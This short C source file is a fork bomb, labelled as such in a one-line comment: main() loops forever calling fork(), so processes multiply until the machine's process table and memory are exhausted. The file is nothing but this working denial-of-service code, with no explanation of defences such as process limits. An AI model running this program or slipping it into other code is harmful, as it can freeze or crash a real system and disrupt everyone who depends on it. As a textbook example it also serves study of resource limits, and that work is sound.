/* A fork bomb: all processes multiply for ever. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
